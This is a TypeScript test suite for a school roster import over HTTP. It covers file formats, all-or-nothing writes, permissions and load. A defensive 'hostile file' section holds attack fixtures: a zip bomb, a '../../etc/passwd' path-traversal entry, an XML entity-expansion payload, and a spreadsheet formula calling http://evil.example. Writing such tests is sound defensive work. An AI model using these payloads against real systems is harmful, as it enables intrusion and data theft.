// The roster import over HTTP: files of all kinds, nothing written before the yes, all or nothing after it, and
// five thousand rows while others go on working.
import { peopleRoutes, type RosterPreview } from '@gongyan/shared/people/people.contract';
import { createRequire } from 'node:module';
import type { CellValue, Workbook } from 'exceljs';
import { aPerson, anAppointment, aResearcher, aSchool } from '../../../testing/builders.js';
import { closeSockets, connect, ask } from '../../../testing/sockets.js';
import { startHub, type Refused, type Session, type TestHub } from '../../../testing/start-hub.js';
import { aZip, type ZipPart } from '../../../testing/zip.js';
import { UnitOfWork } from '../../platform/database/unit-of-work.js';
import { PeopleDoor } from '../people.door.js';

const { Workbook: NewWorkbook }: { Workbook: new () => Workbook } = createRequire(__filename)('exceljs');
const HEADER = ['工号', '姓名', '学校', '岗位(专职/兼职)', '是否班主任', '职称', '登录名(可空)'];

let hub: TestHub;
let shen: Session;
beforeAll(async () => {
  hub = await startHub();
  await aSchool(hub.app, { name: '松果小学' });
  await aSchool(hub.app, { name: '纸鸢小学' });
});
// Uploads are limited per person and minute: a new researcher for each test.
beforeEach(async () => {
  const { login } = await aResearcher(hub.app);
  shen = await hub.signInAs(String(login));
});
afterEach(closeSockets);
afterAll(() => hub.close());

const csv = (rows: readonly (readonly string[])[], name = '名册.csv'): File => new File([[HEADER, ...rows].map((row) => row.join(',')).join('\r\n')], name);
const xlsx = async (rows: readonly (readonly CellValue[])[], header: readonly string[] = HEADER): Promise<File> => {
  const workbook = new NewWorkbook();
  const sheet = workbook.addWorksheet('名册');
  sheet.addRow([...header]);
  for (const row of rows) sheet.addRow([...row]);
  return new File([new Uint8Array(await workbook.xlsx.writeBuffer())], '名册.xlsx');
};
const preview = (file: File): Promise<RosterPreview> => hub.call(peopleRoutes.previewRoster, { file }, shen);
const confirm = (importId: string) => hub.call(peopleRoutes.confirmRoster, { params: { importId }, body: {} }, shen);
const refused = async (deed: Promise<unknown>): Promise<string> => deed.then(() => 'done', (error: Refused) => `${error.code} ${String(error.problem.facts['why'] ?? '')}`.trim());
const sql = (text: string, values: unknown[] = []): Promise<Record<string, unknown>[]> => hub.app.get(UnitOfWork).manager.query(text, values);
const duties = async (staffNo: string) =>
  (await sql(`select a.role, s.name, a."to" is null as open from appointment a join person p on p.id = a.person_id join school s on s.id = a.scope_id where p.staff_no = $1 order by a."to" nulls first, a.role`, [staffNo]))
    .map(({ role, name, open }) => `${String(role)} ${String(name)}${open === true ? '' : ' ended'}`);

describe('a file', () => {
  const row = ['T1', '叶思远', '松果小学', '专职', '是', '一级教师', ''];
  const line = { line: 2, staffNo: 'T1', name: '叶思远', school: '松果小学', post: '专职', verdict: 'create', errors: [] };

  test.each<[string, () => Promise<File> | File]>([
    ['XLSX', () => xlsx([row])],
    ['CSV in UTF-8', () => csv([row])],
    ['CSV in UTF-8 with a mark in front', () => new File(['\uFEFF', csv([row])], 'a.csv')],
    ['CSV as Excel in China saves it (GB18030)', () => new File([Buffer.from('b9a4bac52cd0d5c3fb2cd1a7d0a32cb8dace bb2ccac7b7f1b0e0d6f7c8ce2cd6b0b3c62cb5c7c2bcc3fb0a54312cd2b6cbbcd4b62ccbc9b9fbd0a1d1a72cd7a8d6b02ccac72cd2bbbcb6bdccca a62c0a'.replace(/\s/g, ''), 'hex')], 'a.csv')],
    ['text with tabs in UTF-16', () => new File([Buffer.from(`\uFEFF${[HEADER, row].map((cells) => cells.join('\t')).join('\n')}`, 'utf16le')], 'a.txt')],
    ['CSV with quotes and spare spaces', () => new File([`${HEADER.join(',')}\n" T1 ","叶 思 远",  松果小学 ,"专职",是,"一级教师",\n`], 'a.csv')],
    ['XLSX with its columns in another order and a title above', async () => {
      const workbook = new NewWorkbook();
      const sheet = workbook.addWorksheet('x');
      sheet.addRow(['二〇二六年名册']);
      sheet.addRow(['姓名', '学校', '工号', '岗位', '班主任', '职称']);
      sheet.addRow(['叶思远', '松果小学', 'T1', '专职', '是', '一级教师']);
      return new File([new Uint8Array(await workbook.xlsx.writeBuffer())], 'b.xlsx');
    }],
  ])('as %s is read', async (name, file) => {
    const { rows } = await preview(await file());
    expect(rows).toEqual([{ ...line, line: name.includes('title above') ? 3 : 2 }]);
  });

  test('shows what its author sees: zeros in front, formulas as their last result, never evaluated', async () => {
    const workbook = new NewWorkbook();
    const sheet = workbook.addWorksheet('x');
    sheet.addRow(HEADER);
    sheet.addRow([17, { formula: 'CONCATENATE("叶","思远")', result: '叶思远' }, '松果小学', '专职', '', { richText: [{ text: '一级' }, { text: '教师' }] }, '']);
    sheet.getCell('A2').numFmt = '00000';
    sheet.addRow(['T2', { formula: 'WEBSERVICE("http://evil.example")' }, '松果小学', '专职', '', new Date(Date.UTC(2026, 10, 25)), '']);
    const { rows } = await preview(new File([new Uint8Array(await workbook.xlsx.writeBuffer())], 'c.xlsx'));
    expect(rows.map(({ staffNo, name }) => [staffNo, name])).toEqual([['00017', '叶思远'], ['T2', '=WEBSERVICE("http://evil.example")']]);
  });

  test('that was filled into our own template is read', async () => {
    const bytes: unknown = await hub.call(peopleRoutes.rosterTemplate, {}, shen);
    const workbook = new NewWorkbook();
    if (!(bytes instanceof Uint8Array)) throw new Error('no template');
    await workbook.xlsx.load(bytes.slice().buffer);
    expect(workbook.worksheets.map(({ name }) => name)).toEqual(['名册', '学校名单', '填写说明']);
    workbook.worksheets[0]?.addRow(row);
    const filled = new File([new Uint8Array(await workbook.xlsx.writeBuffer())], 'd.xlsx');
    expect((await preview(filled)).counts).toEqual({ create: 1, update: 0, same: 0, error: 0 });
    expect(await refused(preview(new File([bytes.slice()], 'e.xlsx')))).toMatch(/没有数据行/);
  });
});

const zip = (entries: readonly ZipPart[]): File => new File([new Uint8Array(aZip(entries))], 'bomb.xlsx');

describe('a hostile file', () => {
  const zeros = Buffer.alloc(60 * 1024 * 1024);
  test.each<[string, () => Promise<File> | File, RegExp]>([
    ['that unpacks to sixty megabytes', () => zip([{ name: 'xl/workbook.xml', data: zeros }]), /展开后太大/],
    ['that lies about its size', () => zip([{ name: 'xl/workbook.xml', data: zeros, declared: 100 }]), /展开后太大|不是完好/],
    ['of three hundred entries', () => zip(Array.from({ length: 300 }, (_, at) => ({ name: `x${at}`, data: Buffer.from('x') }))), /展开后太大/],
    ['with a way out in a name', () => zip([{ name: '../../etc/passwd', data: Buffer.from('x') }]), /不是完好/],
    ['with a password', () => zip([{ name: 'xl/workbook.xml', data: Buffer.from('x'), encrypted: true }]), /密码/],
    ['that is a zip and no workbook', () => zip([{ name: 'hello.txt', data: Buffer.from('x') }]), /不是完好|没有找到表头/],
    ['cut short', async () => new File([new Uint8Array(await (await xlsx([['T1', 'a', 'b', 'c']])).arrayBuffer()).slice(0, 3_000)], 'f.xlsx'), /不是完好/],
    ['of the old format', () => new File([Buffer.from('d0cf11e0a1b11ae1', 'hex')], 'g.xls'), /旧版/],
    ['without the columns', () => new File(['name,school\na,b\n'], 'h.csv'), /没有找到表头/],
    ['of bytes that are no text', () => new File([Buffer.from([0xff, 0x00, 0xfe, 0x81, 0xff])], 'i.csv'), /编码|没有找到表头/],
    ['that is empty', () => new File([''], 'j.csv'), /没有找到表头/],
    ['of 5,001 rows', () => csv(Array.from({ length: 5_001 }, (_, at) => [`B${at}`, '某', '松果小学', '专职', '', '', ''])), /超过 5000 行/],
    ['of entities that multiply', async () => zip([{ name: '[Content_Types].xml', data: Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>') }]), /不是完好|没有找到表头/],
  ])('%s is refused in words', async (_name, file, why) => {
    const began = performance.now();
    expect(await refused(preview(await file()))).toMatch(why);
    expect(performance.now() - began).toBeLessThan(3_000);
  });
});

describe('previewing and saying yes', () => {
  test('nothing is written before the yes, and everything after it', async () => {
    const { id, counts } = await preview(csv([['P1', '秦云起', '松果小学', '兼职', '是', '二级教师', 'qin.yunqi'], ['P2', '傅听雪', '纸鸢小学', '专职', '', '', '']]));
    expect([counts, await sql("select 1 from person where staff_no in ('P1', 'P2')")]).toEqual([{ create: 2, update: 0, same: 0, error: 0 }, []]);
    expect(await confirm(id)).toEqual({ created: 2, updated: 0, same: 0 });
    expect([await duties('P1'), await duties('P2')]).toEqual([['headTeacher 松果小学', 'partTime 松果小学'], ['fullTime 纸鸢小学']]);
    expect(await sql("select login, password_hash, initials, state from person where staff_no = 'P1'")).toEqual([{ login: 'qin.yunqi', password_hash: null, initials: 'qyq', state: 'active' }]);
    expect(await refused(hub.signInAs('qin.yunqi', ''))).toMatch(/request.invalid/);
    expect(await refused(hub.signInAs('P2', 'anything-at-all'))).toBe('signIn.wrong');
    expect(await refused(confirm(id))).toBe('people.importGone');
  });

  test('the same file again changes nothing; a changed one moves people and keeps the past', async () => {
    const first = [['R1', '鲁谷雨', '松果小学', '兼职', '是', '', ''], ['R2', '仲抱朴', '松果小学', '专职', '', '', '']];
    await confirm((await preview(csv(first))).id);
    const again = await preview(csv(first));
    expect(again.counts).toEqual({ create: 0, update: 0, same: 2, error: 0 });
    await sql(`update appointment set "from" = "from" - 30 where person_id in (select id from person where staff_no in ('R1', 'R2'))`);
    const moved = await preview(csv([['R1', '鲁谷雨', '纸鸢小学', '专职', '否', '高级教师', ''], first[1] ?? []]));
    expect(await confirm(moved.id)).toEqual({ created: 0, updated: 1, same: 1 });
    expect(await duties('R1')).toEqual(['fullTime 纸鸢小学', 'headTeacher 松果小学 ended', 'partTime 松果小学 ended']);
    expect(await sql("select count(*)::int as n from person where staff_no in ('R1', 'R2')")).toEqual([{ n: 2 }]);
    expect(await sql("select title, workplace, login from person where staff_no = 'R1'")).toEqual([{ title: '高级教师', workplace: '纸鸢小学', login: 'R1' }]);
  });

  test('other offices of a person are not touched, and whoever is concerned hears of it', async () => {
    await confirm((await preview(csv([['S1', '霍抱朴', '松果小学', '兼职', '', '', '']]))).id);
    const id = await hub.app.get(PeopleDoor).personIdByLogin('S1');
    if (id === null) throw new Error('not imported');
    await anAppointment(hub.app, id, { role: 'host', scope: 'studio' });
    const told: string[] = [];
    hub.app.get(PeopleDoor).onAppointmentsChanged((ids) => Promise.resolve(void told.push(...ids)));
    const moved = await preview(csv([['S1', '霍抱朴', '松果小学', '专职', '', '', '']]));
    await confirm(moved.id);
    expect((await hub.app.get(PeopleDoor).activeAppointments(id)).map(({ role }) => role).sort()).toEqual(['fullTime', 'host']);
    expect(told).toEqual([id]);
  });

  test('one wrong row, and nothing is written at all', async () => {
    const { id, rows, counts } = await preview(csv([['E1', '好', '松果小学', '专职', '', '', ''], ['E2', '', '没有这所学校', '专职', '', '', '']]));
    expect(counts).toMatchObject({ create: 1, error: 1 });
    expect(rows[0]).toMatchObject({ line: 3, verdict: 'error', errors: [{ field: 'name', reason: 'missing' }, { field: 'school', reason: 'unknownSchool' }] });
    expect(await refused(confirm(id))).toBe('people.importHasErrors');
    expect(await sql("select 1 from person where staff_no = 'E1'")).toEqual([]);
  });

  test('what became wrong between preview and yes is seen', async () => {
    const { id } = await preview(csv([['G1', '甲', '松果小学', '专职', '', '', 'taken-soon']]));
    await aPerson(hub.app, { login: 'Taken-Soon' });
    expect(await refused(confirm(id))).toBe('people.importHasErrors');
  });

  test('two yeses at once write once', async () => {
    const { id } = await preview(csv([['H1', '甲', '松果小学', '专职', '', '', '']]));
    expect((await Promise.all([refused(confirm(id)), refused(confirm(id))])).sort()).toEqual(['done', 'people.importGone']);
  });

  test('a preview is its author’s, for an hour', async () => {
    const { id } = await preview(csv([['K1', '甲', '松果小学', '专职', '', '', '']]));
    await aResearcher(hub.app, { login: 'another' });
    const another = await hub.signInAs('another');
    expect(await refused(hub.call(peopleRoutes.confirmRoster, { params: { importId: id }, body: {} }, another))).toBe('people.importGone');
    await sql("update roster_import set at = now() - interval '61 minutes'");
    expect(await refused(confirm(id))).toBe('people.importGone');
  });

  test('teachers may neither fetch the template, nor upload, nor confirm', async () => {
    await aPerson(hub.app, { login: 'ye' });
    const ye = await hub.signInAs('ye');
    const { id } = await preview(csv([['L1', '甲', '松果小学', '专职', '', '', '']]));
    expect(await Promise.all([
      refused(hub.call(peopleRoutes.rosterTemplate, {}, ye)),
      refused(hub.call(peopleRoutes.previewRoster, { file: csv([]) }, ye)),
      refused(hub.call(peopleRoutes.confirmRoster, { params: { importId: id }, body: {} }, ye)),
    ])).toEqual(['access.notYours', 'access.notYours', 'access.notYours']);
  });
});

test('five thousand rows are read, judged and written in under ten seconds, and nobody else waits', async () => {
  const boss = await aResearcher(hub.app, { login: 'boss' });
  shen = await hub.signInAs('boss');
  const rows = Array.from({ length: 5_000 }, (_, at) => [`M${at}`, `师${String.fromCharCode(0x4e00 + (at % 3_000))}`, at % 2 === 0 ? '松果小学' : '纸鸢小学', at % 3 === 0 ? '专职' : '兼职', at % 5 === 0 ? '是' : '否', '一级教师', '']);
  const file = await xlsx(rows);
  const socket = await connect(hub, shen);
  let slowest = 0;
  let busy = true;
  const others = (async () => {
    while (busy) {
      const asked = performance.now();
      await ask(socket, 'live:unwatch', { topic: `person:${boss.id}` });
      slowest = Math.max(slowest, performance.now() - asked);
      await new Promise((soon) => setTimeout(soon, 120));
    }
  })();
  const began = performance.now();
  const { id, counts } = await preview(file);
  expect(counts).toEqual({ create: 5_000, update: 0, same: 0, error: 0 });
  expect(await confirm(id)).toEqual({ created: 5_000, updated: 0, same: 0 });
  const written = performance.now();
  const second = await preview(csv(rows.map((row, at) => (at < 2_500 ? [...row.slice(0, 3), '兼职', ...row.slice(4)] : row))));
  await confirm(second.id);
  busy = false;
  await others;
  expect(written - began).toBeLessThan(10_000);
  expect(slowest).toBeLessThan(1_500);
}, 60_000);
